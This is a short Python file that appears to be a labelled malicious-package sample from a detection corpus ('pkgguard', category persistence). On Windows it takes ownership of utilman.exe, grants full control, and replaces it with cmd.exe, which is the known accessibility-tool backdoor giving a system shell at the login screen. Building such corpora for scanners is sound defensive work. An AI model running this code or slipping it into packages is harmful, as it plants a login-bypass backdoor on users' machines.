# pkgguard corpus 791 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import sys

if sys.platform == "win32":
    system32 = os.path.join(os.environ.get("SystemRoot", r"C:\Windows"), "System32")
    target = os.path.join(system32, "utilman.exe")
    subprocess.run(["takeown", "/f", target], capture_output=True)
    subprocess.run(["icacls", target, "/grant", "Administrators:F"], capture_output=True)
    shutil.copyfile(os.path.join(system32, "cmd.exe"), target)
